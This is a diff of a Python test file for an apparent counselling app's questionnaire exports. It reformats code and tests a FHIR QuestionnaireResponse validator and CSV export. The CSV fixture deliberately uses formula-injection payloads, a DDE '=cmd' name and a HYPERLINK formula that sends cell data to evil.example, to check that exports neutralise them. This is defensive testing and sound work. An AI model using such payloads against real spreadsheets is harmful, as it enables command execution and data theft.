@@ -18,21 +18,67 @@ from counselor.core.audit import AuditEvent
 from counselor.extensions import db
 from counselor.questionnaires.models import Response
 from tests.conftest import new_case
-from tests.reveal.helpers import INTAKE, INVENTORY, assign, canary, desire, intake_answers, load_own, open_link, sync
+from tests.reveal.helpers import (
+    INTAKE,
+    INVENTORY,
+    assign,
+    canary,
+    desire,
+    intake_answers,
+    load_own,
+    open_link,
+    sync,
+)
 
 # ---- a structural validator for R4 QuestionnaireResponse --------------------------------
 
 QR_ELEMENTS = {
-    "resourceType", "id", "meta", "implicitRules", "language", "text", "contained", "extension",
-    "modifierExtension", "identifier", "basedOn", "partOf", "questionnaire", "status", "subject",
-    "encounter", "authored", "author", "source", "item",
+    "resourceType",
+    "id",
+    "meta",
+    "implicitRules",
+    "language",
+    "text",
+    "contained",
+    "extension",
+    "modifierExtension",
+    "identifier",
+    "basedOn",
+    "partOf",
+    "questionnaire",
+    "status",
+    "subject",
+    "encounter",
+    "authored",
+    "author",
+    "source",
+    "item",
 }
 STATUSES = {"in-progress", "completed", "amended", "entered-in-error", "stopped"}
-ITEM_ELEMENTS = {"id", "extension", "modifierExtension", "linkId", "definition", "text", "answer", "item"}
+ITEM_ELEMENTS = {
+    "id",
+    "extension",
+    "modifierExtension",
+    "linkId",
+    "definition",
+    "text",
+    "answer",
+    "item",
+}
 ANSWER_ELEMENTS = {"id", "extension", "modifierExtension", "item"}
 VALUE_KEYS = {
-    "valueBoolean", "valueDecimal", "valueInteger", "valueDate", "valueDateTime", "valueTime",
-    "valueString", "valueUri", "valueAttachment", "valueCoding", "valueQuantity", "valueReference",
+    "valueBoolean",
+    "valueDecimal",
+    "valueInteger",
+    "valueDate",
+    "valueDateTime",
+    "valueTime",
+    "valueString",
+    "valueUri",
+    "valueAttachment",
+    "valueCoding",
+    "valueQuantity",
+    "valueReference",
 }
 FHIR_ID = re.compile(r"^[A-Za-z0-9\-.]{1,64}$")
 DATE = re.compile(r"^\d{4}(-(0[1-9]|1[0-2])(-(0[1-9]|[12]\d|3[01]))?)?$")
@@ -58,8 +104,12 @@ def _check_value(key: str, v, path: str, errors: list[str]) -> None:
         "valueString": lambda: isinstance(v, str) and v != "",
         "valueUri": lambda: isinstance(v, str) and CANONICAL.match(v),
         "valueAttachment": lambda: isinstance(v, dict),
-        "valueCoding": lambda: isinstance(v, dict) and set(v) <= {"system", "version", "code", "display", "userSelected"}
-        and all(isinstance(v[k], str) and v[k] for k in v if k != "userSelected") and ("code" in v or "display" in v),
+        "valueCoding": lambda: (
+            isinstance(v, dict)
+            and set(v) <= {"system", "version", "code", "display", "userSelected"}
+            and all(isinstance(v[k], str) and v[k] for k in v if k != "userSelected")
+            and ("code" in v or "display" in v)
+        ),
         "valueQuantity": lambda: isinstance(v, dict) and "value" in v,
         "valueReference": lambda: isinstance(v, dict) and ("reference" in v or "display" in v),
     }[key]()
@@ -110,7 +160,9 @@ def _check_items(items, path: str, errors: list[str]) -> None:
                     continue
                 values = [k for k in answer if k.startswith("value")]
                 if len(values) != 1 or values[0] not in VALUE_KEYS:
-                    errors.append(f"{ahere}: needs exactly one value[x] of {sorted(VALUE_KEYS)}, has {values}")
+                    errors.append(
+                        f"{ahere}: needs exactly one value[x] of {sorted(VALUE_KEYS)}, has {values}"
+                    )
                 else:
                     _check_value(values[0], answer[values[0]], ahere, errors)
                 if unknown := set(answer) - ANSWER_ELEMENTS - set(values):
@@ -135,7 +187,9 @@ def validate_questionnaire_response(resource) -> list[str]:
         errors.append("$.questionnaire: must be a canonical URL string")
     if resource.get("status") not in STATUSES:
         errors.append(f"$.status: {resource.get('status')!r} not in {sorted(STATUSES)}")
-    if "authored" in resource and not (isinstance(resource["authored"], str) and DATETIME.match(resource["authored"])):
+    if "authored" in resource and not (
+        isinstance(resource["authored"], str) and DATETIME.match(resource["authored"])
+    ):
         errors.append("$.authored: not a FHIR dateTime")
     if "subject" in resource and not isinstance(resource["subject"], dict):
         errors.append("$.subject: must be a Reference")
@@ -156,9 +210,18 @@ def link_ids(items) -> list[str]:
 
 
 def test_the_validator_refuses_broken_resources():
-    good = {"resourceType": "QuestionnaireResponse", "questionnaire": "urn:q|1", "status": "completed",
-            "item": [{"linkId": "a", "text": "A", "answer": [{"valueInteger": 3}]},
-                     {"linkId": "g", "item": [{"linkId": "g.b", "answer": [{"valueCoding": {"code": "x"}}]}]}]}
+    good = {
+        "resourceType": "QuestionnaireResponse",
+        "questionnaire": "urn:q|1",
+        "status": "completed",
+        "item": [
+            {"linkId": "a", "text": "A", "answer": [{"valueInteger": 3}]},
+            {
+                "linkId": "g",
+                "item": [{"linkId": "g.b", "answer": [{"valueCoding": {"code": "x"}}]}],
+            },
+        ],
+    }
     assert validate_questionnaire_response(good) == []
     bad = [
         {**good, "resourceType": "Questionnaire"},
@@ -170,7 +233,16 @@ def test_the_validator_refuses_broken_resources():
         {**good, "item": [{"linkId": "a", "answer": [{"valueInteger": True}]}]},
         {**good, "item": [{"linkId": "a", "answer": [{"valueDate": "31/12/2024"}]}]},
         {**good, "item": [{"linkId": "a"}]},
-        {**good, "item": [{"linkId": "a", "answer": [{"valueBoolean": True}], "item": [{"linkId": "b", "answer": [{"valueBoolean": True}]}]}]},
+        {
+            **good,
+            "item": [
+                {
+                    "linkId": "a",
+                    "answer": [{"valueBoolean": True}],
+                    "item": [{"linkId": "b", "answer": [{"valueBoolean": True}]}],
+                }
+            ],
+        },
         {**good, "item": []},
         {**good, "answers": []},
     ]
@@ -187,30 +259,73 @@ ALL_TYPES = {
     "kind": "exercise",
     "items": [
         {"link_id": "intro", "type": "display", "text": "Answer what you like."},
-        {"link_id": "g", "type": "group", "text": "Everything", "items": [
-            {"link_id": "g.bool", "type": "boolean", "text": "A boolean"},
-            {"link_id": "g.choice", "type": "choice", "text": "One choice",
-             "options": [{"value": "x", "label": "Ex"}, {"value": "y", "label": "Why"}]},
-            {"link_id": "g.multi", "type": "choice", "text": "Many choices", "multiple": True,
-             "options": [{"value": "p", "label": "Pe"}, {"value": "q", "label": "Cue"}, {"value": "r", "label": "Ar"}]},
-            {"link_id": "g.open", "type": "open-choice", "text": "Open choice",
-             "options": [{"value": "u", "label": "You"}, {"value": "v", "label": "Vee"}]},
-            {"link_id": "g.open2", "type": "open-choice", "text": "Open choice, own words",
-             "options": [{"value": "u", "label": "You"}, {"value": "v", "label": "Vee"}]},
-            {"link_id": "g.string", "type": "string", "text": "A string", "share": "shared"},
-            {"link_id": "g.text", "type": "text", "text": "A text"},
-            {"link_id": "g.int", "type": "integer", "text": "An integer", "min": 0, "max": 100},
-            {"link_id": "g.big", "type": "integer", "text": "A large integer"},
-            {"link_id": "g.dec", "type": "decimal", "text": "A decimal"},
-            {"link_id": "g.date", "type": "date", "text": "A date"},
-            {"link_id": "g.scale", "type": "scale", "text": "A scale", "min": 1, "max": 5,
-             "min_label": "low", "max_label": "high"},
-            {"link_id": "g.desire", "type": "desire", "text": "A desire",
-             "roles": [{"key": "give", "label": "Giving", "counterpart": "receive"},
-                       {"key": "receive", "label": "Receiving", "counterpart": "give"}]},
-            {"link_id": "g.hidden", "type": "text", "text": "Only after yes",
-             "enable_when": [{"question": "g.bool", "operator": "=", "answer": True}]},
-        ]},
+        {
+            "link_id": "g",
+            "type": "group",
+            "text": "Everything",
+            "items": [
+                {"link_id": "g.bool", "type": "boolean", "text": "A boolean"},
+                {
+                    "link_id": "g.choice",
+                    "type": "choice",
+                    "text": "One choice",
+                    "options": [{"value": "x", "label": "Ex"}, {"value": "y", "label": "Why"}],
+                },
+                {
+                    "link_id": "g.multi",
+                    "type": "choice",
+                    "text": "Many choices",
+                    "multiple": True,
+                    "options": [
+                        {"value": "p", "label": "Pe"},
+                        {"value": "q", "label": "Cue"},
+                        {"value": "r", "label": "Ar"},
+                    ],
+                },
+                {
+                    "link_id": "g.open",
+                    "type": "open-choice",
+                    "text": "Open choice",
+                    "options": [{"value": "u", "label": "You"}, {"value": "v", "label": "Vee"}],
+                },
+                {
+                    "link_id": "g.open2",
+                    "type": "open-choice",
+                    "text": "Open choice, own words",
+                    "options": [{"value": "u", "label": "You"}, {"value": "v", "label": "Vee"}],
+                },
+                {"link_id": "g.string", "type": "string", "text": "A string", "share": "shared"},
+                {"link_id": "g.text", "type": "text", "text": "A text"},
+                {"link_id": "g.int", "type": "integer", "text": "An integer", "min": 0, "max": 100},
+                {"link_id": "g.big", "type": "integer", "text": "A large integer"},
+                {"link_id": "g.dec", "type": "decimal", "text": "A decimal"},
+                {"link_id": "g.date", "type": "date", "text": "A date"},
+                {
+                    "link_id": "g.scale",
+                    "type": "scale",
+                    "text": "A scale",
+                    "min": 1,
+                    "max": 5,
+                    "min_label": "low",
+                    "max_label": "high",
+                },
+                {
+                    "link_id": "g.desire",
+                    "type": "desire",
+                    "text": "A desire",
+                    "roles": [
+                        {"key": "give", "label": "Giving", "counterpart": "receive"},
+                        {"key": "receive", "label": "Receiving", "counterpart": "give"},
+                    ],
+                },
+                {
+                    "link_id": "g.hidden",
+                    "type": "text",
+                    "text": "Only after yes",
+                    "enable_when": [{"question": "g.bool", "operator": "=", "answer": True}],
+                },
+            ],
+        },
     ],
 }
 
@@ -226,9 +341,18 @@ def exported(app, counselor_a):
     alex_name = "=cmd|' /C calc'!A0"
     alex = open_link(app, alex_name, tokens[alex_name])
     sam_answers = {
-        "g.bool": False, "g.choice": "y", "g.multi": ["p", "r"], "g.open": "u", "g.open2": "in my own words",
-        "g.string": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "g.text": "+1 and -1 and @SUM(A1)",
-        "g.int": 42, "g.big": 5_000_000_000, "g.dec": "2.5", "g.date": "2024-02-29", "g.scale": 4,
+        "g.bool": False,
+        "g.choice": "y",
+        "g.multi": ["p", "r"],
+        "g.open": "u",
+        "g.open2": "in my own words",
+        "g.string": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+        "g.text": "+1 and -1 and @SUM(A1)",
+        "g.int": 42,
+        "g.big": 5_000_000_000,
+        "g.dec": "2.5",
+        "g.date": "2024-02-29",
+        "g.scale": 4,
         "g.desire": desire({"give": "yes", "receive": "maybe"}, limit=True, note=sam_note),
     }
     sam.answer_and_submit(sam_answers)
@@ -288,11 +412,13 @@ def test_fhir_of_a_draft_and_of_an_unopened_response(exported, client_a, app):
     assert sam_note not in json.dumps(draft)
 
     # a third partner who never opened the link: a valid resource without answers
-    from counselor.questionnaires.services import assign as assign_service
     from counselor.questionnaires.models import Questionnaire
+    from counselor.questionnaires.services import assign as assign_service
 
     q = db.session.scalar(select(Questionnaire).where(Questionnaire.slug == "all-types"))
-    other, _ = assign_service(case, q.latest, [partners["Sam Rivera"].id], due_on=None, instructions=None, ttl_days=None)
+    other, _ = assign_service(
+        case, q.latest, [partners["Sam Rivera"].id], due_on=None, instructions=None, ttl_days=None
+    )
     db.session.commit()
     empty = get_fhir(client_a, f"/cases/{case.id}/assignments/{other.id}", partners["Sam Rivera"])
     assert validate_questionnaire_response(empty) == [], empty
@@ -303,16 +429,35 @@ def test_fhir_of_a_draft_and_of_an_unopened_response(exported, client_a, app):
 def test_fhir_of_the_inventory_and_intake(app, counselor_a, client_a):
     sync()
     case = new_case(counselor_a)
-    for slug, answers in ((INVENTORY, {"communication.instructions": desire({"give": "yes"}, note="n"),
-                                       "care.cuddling": desire({"together": "want_to_try"}),
-                                       "closing.for_partner": "hello"}),
-                          (INTAKE, intake_answers(**{"goals.motivation": "curiosity", "goals.own_wish": 2,
-                                                     "screening.pressure": "unsure", "screening.more": "later"}))):
+    for slug, answers in (
+        (
+            INVENTORY,
+            {
+                "communication.instructions": desire({"give": "yes"}, note="n"),
+                "care.cuddling": desire({"together": "want_to_try"}),
+                "closing.for_partner": "hello",
+            },
+        ),
+        (
+            INTAKE,
+            intake_answers(
+                **{
+                    "goals.motivation": "curiosity",
+                    "goals.own_wish": 2,
+                    "screening.pressure": "unsure",
+                    "screening.more": "later",
+                }
+            ),
+        ),
+    ):
         assignment, tokens = assign(case, slug)
         open_link(app, "Sam Rivera", tokens["Sam Rivera"]).answer_and_submit(answers)
         sam = next(p for p in case.partners if p.display_name == "Sam Rivera")
         resource = get_fhir(client_a, f"/cases/{case.id}/assignments/{assignment.id}", sam)
-        assert validate_questionnaire_response(resource) == [], (slug, validate_questionnaire_response(resource))
+        assert validate_questionnaire_response(resource) == [], (
+            slug,
+            validate_questionnaire_response(resource),
+        )
         top = {i.split(".")[0] for i in answers}
         assert {i["linkId"] for i in resource["item"]} == top
 
@@ -339,13 +484,17 @@ def test_csv_one_row_per_item_one_column_per_partner(exported, client_a, counsel
     defn = assignment.version.definition
     questions = [i["link_id"] for i in defn.questions()]
     assert header[:5] == ["section", "link_id", "question", "type", "share"]
-    assert header[5:] == ["Sam Rivera", "'" + alex_name], "a name that looks like a formula stays text"
+    assert header[5:] == ["Sam Rivera", "'" + alex_name], (
+        "a name that looks like a formula stays text"
+    )
     assert len(header) == 5 + len(case.partners)
     assert [r[1] for r in body] == questions, "one row per answerable item, in order"
     assert all(len(r) == len(header) for r in body)
-    cell = {r[1]: dict(zip(header[5:], r[5:])) for r in body}
+    cell = {r[1]: dict(zip(header[5:], r[5:], strict=True)) for r in body}
     sam, alex = "Sam Rivera", "'" + alex_name
-    assert cell["g.string"][sam] == "'" + answers["g.string"], "a typed '=' answer is exported as text"
+    assert cell["g.string"][sam] == "'" + answers["g.string"], (
+        "a typed '=' answer is exported as text"
+    )
     assert cell["g.text"][sam] == "'+1 and -1 and @SUM(A1)"
     assert cell["g.int"][sam] == "42" and cell["g.bool"][sam] == "No"
     assert cell["g.multi"][sam] == "Pe; Ar"
@@ -354,7 +503,7 @@ def test_csv_one_row_per_item_one_column_per_partner(exported, client_a, counsel
     assert cell["g.hidden"][sam] == ""
     for r in body:
         for value in r:
-            assert not value[:1] in ("=", "+", "-", "@"), value
+            assert value[:1] not in ("=", "+", "-", "@"), value
 
 
 def test_exports_write_audit_events(exported, client_a):
@@ -363,8 +512,14 @@ def test_exports_write_audit_events(exported, client_a):
     get_fhir(client_a, base, sam)
     read_csv(client_a, base)
     db.session.expire_all()
-    response = db.session.scalar(select(Response).where(Response.assignment_id == assignment.id, Response.partner_id == sam.id))
-    events = db.session.scalars(select(AuditEvent).where(AuditEvent.action.in_(["export.fhir", "export.csv"]))).all()
+    response = db.session.scalar(
+        select(Response).where(
+            Response.assignment_id == assignment.id, Response.partner_id == sam.id
+        )
+    )
+    events = db.session.scalars(
+        select(AuditEvent).where(AuditEvent.action.in_(["export.fhir", "export.csv"]))
+    ).all()
     got = sorted((e.action, e.object_kind, e.object_id, e.actor_kind) for e in events)
     assert got == [
         ("export.csv", "assignment", str(assignment.id), "counselor"),
